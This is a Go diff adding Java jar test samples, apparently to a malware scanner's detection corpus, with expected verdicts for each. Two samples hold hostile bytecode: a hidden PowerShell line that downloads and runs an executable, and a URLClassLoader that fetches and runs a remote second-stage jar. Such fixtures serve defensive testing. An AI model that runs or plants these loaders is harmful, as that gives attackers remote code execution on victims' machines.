@@ -11,6 +11,7 @@ import (
 func installerSamples() []Sample {
 	var out []Sample
 	out = append(out, msiSamples()...)
+	out = append(out, jarSamples()...)
 	return out
 }
 
@@ -57,5 +58,46 @@ func msiSamples() []Sample {
 		{Name: "installer-vbscript-action.msi", Want: verdict.Malicious, Why: "MSI with a deferred, SYSTEM inline VBScript custom action that downloads and runs", Data: vbsMSI},
 		{Name: "installer-cmd-action.msi", Want: verdict.HighlySuspicious, Why: "MSI with a type 34 custom action: cmd /c curl a DLL, then rundll32 it", Data: exeMSI},
 		{Name: "installer-plain.msi", Want: verdict.Clean, Why: "MSI whose custom actions set a property and run the program it installs", Data: plainMSI},
+	}
+}
+
+func jarSamples() []Sample {
+	rt := NewClass("com/contoso/Invoice")
+	rt.Invoke("static", "java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;", 1).
+		Ldc(`powershell -w hidden -nop -c iwr `+payloadURL+` -OutFile $env:TEMP\u.exe; start $env:TEMP\u.exe`, 2).
+		Invoke("virtual", "java/lang/Runtime", "exec", "(Ljava/lang/String;)Ljava/lang/Process;", 1).Pop()
+
+	ld := NewClass("com/contoso/Viewer")
+	ld.New("java/net/URLClassLoader", 2).
+		Op(3, 0x04).Op(3, append([]byte{0xbd}, u2(ld.ClassIndex("java/net/URL"))...)...). // iconst_1; anewarray URL
+		Op(5, 0x59, 0x03).                                                                // dup; iconst_0
+		New("java/net/URL", 7).Ldc("http://198.51.100.7/stage2.jar", 8).
+		Invoke("special", "java/net/URL", "<init>", "(Ljava/lang/String;)V", 6).
+		Op(3, 0x53). // aastore
+		Invoke("special", "java/net/URLClassLoader", "<init>", "([Ljava/net/URL;)V", 1).
+		Ldc("org.stage.Loader", 2).
+		Invoke("virtual", "java/lang/ClassLoader", "loadClass", "(Ljava/lang/String;)Ljava/lang/Class;", 1).
+		Invoke("virtual", "java/lang/Class", "newInstance", "()Ljava/lang/Object;", 1).Pop()
+
+	app := NewClass("com/contoso/Main")
+	app.GetStatic("java/lang/System", "out", "Ljava/io/PrintStream;", 1).
+		Ldc("Contoso invoice viewer 2.4. Help: https://www.example.org/help", 2).
+		Invoke("virtual", "java/io/PrintStream", "println", "(Ljava/lang/String;)V", 0).
+		New("java/lang/ProcessBuilder", 2).StringArray(2, "git", "--version").
+		Invoke("special", "java/lang/ProcessBuilder", "<init>", "([Ljava/lang/String;)V", 1).
+		Invoke("virtual", "java/lang/ProcessBuilder", "start", "()Ljava/lang/Process;", 1).Pop()
+
+	lib := NewClass("org/example/http/Fetcher")
+	lib.New("java/net/URL", 2).Ldc("https://www.example.org/feed.xml", 3).
+		Invoke("special", "java/net/URL", "<init>", "(Ljava/lang/String;)V", 1).
+		Invoke("virtual", "java/net/URL", "openStream", "()Ljava/io/InputStream;", 1).Pop().
+		New("java/io/FileOutputStream", 2).Ldc("feed-cache.xml", 3).
+		Invoke("special", "java/io/FileOutputStream", "<init>", "(Ljava/lang/String;)V", 1).Pop()
+
+	return []Sample{
+		{Name: "runtime-exec.jar", Want: verdict.HighlySuspicious, Why: "runnable jar whose main calls Runtime.exec with a PowerShell download-and-run line", Data: Jar("com.contoso.Invoice", ZipEntry{Name: "com/contoso/Invoice.class", Data: rt.Bytes()})},
+		{Name: "url-classloader.jar", Want: verdict.HighlySuspicious, Why: "runnable jar that loads its next stage from a URL through URLClassLoader", Data: Jar("com.contoso.Viewer", ZipEntry{Name: "com/contoso/Viewer.class", Data: ld.Bytes()})},
+		{Name: "plain-app.jar", Want: verdict.Clean, Why: "runnable jar that prints a help URL and runs git --version", Data: Jar("com.contoso.Main", ZipEntry{Name: "com/contoso/Main.class", Data: app.Bytes()})},
+		{Name: "http-library.jar", Want: verdict.Clean, Why: "library jar (no Main-Class) that fetches a feed and caches it to a file", Data: Jar("", ZipEntry{Name: "org/example/http/Fetcher.class", Data: lib.Bytes()})},
 	}
 }
